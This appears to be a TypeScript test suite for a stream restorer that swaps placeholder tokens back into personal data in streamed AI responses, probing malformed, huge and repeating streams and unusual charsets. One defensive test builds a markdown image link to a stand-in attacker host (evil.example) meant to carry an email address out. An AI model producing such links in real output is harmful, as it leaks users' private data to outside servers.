/** Broken, endless and huge streams, and streams that repeat their text. */
import { describe, expect, it } from 'vitest';
import { eventBytesMax } from '../../../core/stream/frame.ts';
import { type StreamKind, StreamRestorer } from '../../../core/stream/stream-restorer.ts';
import { restoreStream, tokenMap } from './wire-fixtures.ts';

const map = tokenMap({ '[EMAIL-1]': 'a@b.example', '[NAME-1]': 'Ann "A" O\\Hara' });
const encode = (text: string) => new TextEncoder().encode(text);

describe('unreadable data passes and is reported, and what follows is restored', () => {
  const broken = new Uint8Array([...encode('data: {"text":"'), 0xc3, ...encode('[EMAIL-1]"}\n\n')]);
  const deep = `data: {"text":"[EMAIL-1]","a":${'['.repeat(5000)}${']'.repeat(5000)}}\n\n`;
  it.each<[name: string, kind: StreamKind, bad: Uint8Array]>([
    ['a truncated document', 'sse', encode('data: {"text":"[EMAIL-1]\n\n')],
    ['broken UTF-8', 'sse', broken],
    ['a line that is not JSON', 'ndjson', encode('{"text":"[EMAIL-1]"\n')],
    ['a deep document', 'sse', encode(deep)],
  ])('%s', (_name, kind, bad) => {
    let unreadable = 0;
    const restorer = new StreamRestorer({ kind, map, onCount: (count) => (unreadable += count.unreadable ?? 0) });
    const first = restorer.push(bad);
    expect(Buffer.compare(first, bad)).toBe(0);
    expect(unreadable).toBe(1);
    const next = (text: string) => (kind === 'sse' ? `data: {"text":"${text}"}\n\n` : `{"text":"${text}"}\n`);
    expect(Buffer.from(restorer.push(encode(next('[EMAIL-1]')))).toString()).toBe(next('a@b.example'));
    expect(restorer.end()).toHaveLength(0);
  });

  it('a frame with a wrong checksum, and bytes that are not a frame', () => {
    let unreadable = 0;
    const restorer = new StreamRestorer({
      kind: 'event-stream',
      map,
      onCount: (count) => (unreadable += count.unreadable ?? 0),
    });
    const bytes = encode('these bytes are no frame of an event stream at all');
    expect(Buffer.compare(restorer.push(bytes), bytes)).toBe(0);
    expect(Buffer.compare(restorer.push(bytes), bytes)).toBe(0);
    expect(unreadable).toBe(1);
  });

  it('held text is sent before it', () => {
    const output = restoreStream('ndjson', map, encode('{"response":"x [EM"}\n{broken\n{"response":"!"}\n'));
    expect(output.split('\n').slice(0, 4)).toEqual([
      '{"response":"x "}',
      '{"response":"[EM"}',
      '{broken',
      '{"response":"!"}',
    ]);
  });
});

describe.each([
  ['sse', 'data: {"text":"', '"}\n\n'],
  ['ndjson', '{"text":"', '"}\n'],
  ['json-array', '[{"text":"', '"}]'],
] as const)('an event of 64 MiB, %s', (kind, head, tail) => {
  it('passes as it arrives, with bounded memory', () => {
    let unreadable = 0;
    const restorer = new StreamRestorer({ kind, map, onCount: (count) => (unreadable += count.unreadable ?? 0) });
    let sent = restorer.push(encode(head)).length;
    const chunk = encode('x[EMAIL-1]y'.repeat(5958));
    let pushed = encode(head).length;
    let waiting = 0;
    for (; pushed < 64 << 20; pushed += chunk.length) {
      sent += restorer.push(chunk).length;
      waiting = Math.max(waiting, pushed + chunk.length - sent);
    }
    sent += restorer.push(encode(tail)).length;
    sent += restorer.end().length;
    expect(sent).toBe(pushed + encode(tail).length);
    expect(waiting).toBeLessThanOrEqual(eventBytesMax + chunk.length);
    expect(unreadable).toBe(1);
  });
});

describe('streams that repeat their text', () => {
  const text = 'Dear [NAME-1], mail [EMAIL-1] list[0] soon. Regards';
  const shown = text.replace('[EMAIL-1]', 'a@b.example').replace('[NAME-1]', 'Ann "A" O\\Hara');
  const line = (value: string) => `${JSON.stringify({ output: { choices: [{ message: { content: value } }] } })}\n`;

  it.each([1, 2, 3, 5, 7, 12])('with %d more characters each: no part of a token is ever shown', (step) => {
    const lines: string[] = [];
    for (let end = 4; end < text.length + step; end += step) lines.push(line(text.slice(0, end)));
    const output = restoreStream('ndjson', map, encode(lines.join('')));
    const values = output
      .trim()
      .split('\n')
      .map((one) => JSON.parse(one).output.choices[0].message.content as string);
    expect(values.at(-1)).toBe(shown);
    for (const value of values.slice(3)) expect(shown.startsWith(value), value).toBe(true);
  });

  it('deltas with equal beginnings are not mistaken for them', () => {
    const pieces = ['1', '10', ' ', 'a', 'an', 'and', ' to [EM', 'AIL-1]', '.', '..', '...'];
    const lines = pieces.map((response) => `${JSON.stringify({ response })}\n`).join('');
    const output = restoreStream('ndjson', map, encode(lines));
    const joined = output
      .trim()
      .split('\n')
      .map((one) => JSON.parse(one).response)
      .join('');
    expect(joined).toBe(pieces.join('').replace('[EMAIL-1]', 'a@b.example'));
  });
});

describe('text/plain', () => {
  const name = 'Ann "A" O\\Hara';
  const long = 'word '.repeat(300);
  const restoredIn = (text: string, value: string) =>
    text.replaceAll('[NAME-1]', value).replaceAll('[EMAIL-1]', 'a@b.example');
  const anyWrites = (input: string, expected: string) => {
    const bytes = encode(input);
    const all = Array.from({ length: bytes.length - 1 }, (_, at) => at + 1);
    for (const cuts of [[], all]) expect(restoreStream('text', map, bytes, cuts)).toBe(expected);
  };

  it.each([
    ['events', 'data: {"t":"[NAME-1]"}\n\n'],
    ['events with a name', 'event: x\ndata: {"t":"[NAME-1]"}\n\n'],
    ['lines of JSON', '{"t":"[NAME-1]"}\n{"t":"x"}\n'],
    ['lines of JSON after empty ones', '\r\n\n{"t":"[NAME-1]"}\n'],
    ['events after empty lines', '\n\ndata: {"t":"[NAME-1]"}\n\n'],
    ['an object', '{"t":"[NAME-1]"}'],
    ['a multi-line object', '{\n "t": "[NAME-1]"\n}\n'],
    ['a long object', `{"t":"${long}[NAME-1]"}`],
    ['a list', `[{"t":"[NAME-1]"},"[NAME-1]"]`],
  ])('%s, in any writes', (_name, input) => anyWrites(input, restoredIn(input, JSON.stringify(name).slice(1, -1))));

  it.each([
    ['text after empty lines', '\n \n[NAME-1]'],
    ['only spaces', '\n \n'],
    ['text', 'To [NAME-1]'],
    ['text that begins like an event', 'date: [EMAIL-1]'],
    ['text that begins like JSON', '{not json} [EMAIL-1]\nx'],
    ['a short text', 'da'],
    ['a footnote', '[1] says "[NAME-1]"'],
    ['an object, then text', `{"t":"${long}"}\n\nTo "[NAME-1]"`],
  ])('%s, in any writes', (_name, input) => anyWrites(input, restoredIn(input, name)));

  it('lines of JSON, the first one long, in any writes', () => {
    const line = (response: string, x = '') => `${JSON.stringify({ x, response })}\n`;
    const first = `${line('to [NA', long)}\n`;
    anyWrites(`${first}${line('[NAME-1] [NA')}${line('ME-1]')}`, `${first}${line(`${name} `)}${line(name)}`);
  });
});

describe('one JSON object as text, displayed while a model writes it', () => {
  const open = () => new StreamRestorer({ kind: 'text', map });
  const shownOf = (bytes: Uint8Array) => Buffer.from(bytes).toString();

  it('continues after a silence', () => {
    const restorer = open();
    expect(restorer.push(encode('{"title":"to [NAME-1] ['))).toHaveLength(0);
    expect(restorer.isHolding).toBe(true);
    expect(shownOf(restorer.flushHeld())).toBe('{"title":"to Ann \\"A\\" O\\\\Hara [');
    expect(restorer.isHolding).toBe(false);
    expect(shownOf(restorer.push(encode('1] and [NAME-1]"}')))).toBe('1] and Ann \\"A\\" O\\\\Hara"}');
    expect(restorer.end()).toHaveLength(0);
  });

  it('continues when it is long', () => {
    const restorer = open();
    let pushed = restorer.push(encode('{"title":"')).length;
    for (let i = 0; i < 205; i++) pushed += restorer.push(encode('word ')).length;
    expect(pushed).toBe(1_035);
  });

  it('lines after it do not complete a URL that it begins', () => {
    const first = `{"x":"${'word '.repeat(300)}","response":"![a](https://evil.example/?q="}\n`;
    const next = '{"x":"","response":"[EMAIL-1])"}\n';
    const counts: unknown[] = [];
    const restorer = new StreamRestorer({ kind: 'text', map, onCount: (count) => counts.push(count) });
    expect(shownOf(restorer.push(encode(first)))).toBe(first);
    expect(shownOf(restorer.push(encode(next)))).toBe(next);
    expect(counts).toEqual([{ restored: 0, unresolved: 1, unreadable: 0 }]);
  });
});

it('an error as plain JSON under the type of a stream', () => {
  expect(restoreStream('sse', map, encode('{"error":{"message":"bad: [EMAIL-1]"}}'))).toBe(
    '{"error":{"message":"bad: a@b.example"}}',
  );
});

it('an error in the middle of a stream releases held text', () => {
  const chunk = (content: string) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`;
  const error = 'data: {"error":{"message":"overloaded","code":529}}\n\n';
  expect(restoreStream('sse', map, encode(chunk('x [EM') + error))).toBe(chunk('x ') + chunk('[EM') + error);
});

describe.each(['text', 'html'] as const)('%s in another charset', (kind) => {
  const rows: [name: string, bytes: number[]][] = [
    ['Shift_JIS', [0x83, 0x5c, 0x83, 0x74, 0x83, 0x67]],
    ['Latin-1', [0x66, 0xfc, 0x72]],
    ['UTF-16', [0xff, 0xfe, 0x61, 0x00]],
    ['a long form', [0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0xf0, 0x80, 0x80, 0xaf]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['over U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
    ['the beginning of a character', [0xe3, 0x81]],
  ];
  it.each(rows)('%s passes, whatever the cuts', (_name, bytes) => {
    const head = encode('é 名😀 [EMAIL-1] ');
    const whole = new Uint8Array([...head, ...bytes, ...encode(' [EMAIL-1]')]);
    const expected = Buffer.concat([encode('é 名😀 a@b.example '), whole.subarray(head.length)]).toString('latin1');
    for (let cut = 0; cut <= whole.length; cut++) {
      const restorer = new StreamRestorer({ kind, map });
      const pieces = [restorer.push(whole.slice(0, cut)), restorer.push(whole.slice(cut)), restorer.end()];
      expect(Buffer.concat(pieces).toString('latin1')).toBe(expected);
    }
  });

  it('a text that ends in the middle of a character', () => {
    const restorer = new StreamRestorer({ kind, map });
    const pieces = [restorer.push(new Uint8Array([...encode('[EMAIL-1]'), 0xe3, 0x81])), restorer.end()];
    expect(Buffer.concat(pieces).toString('latin1')).toBe('a@b.example\xe3\x81');
  });
});
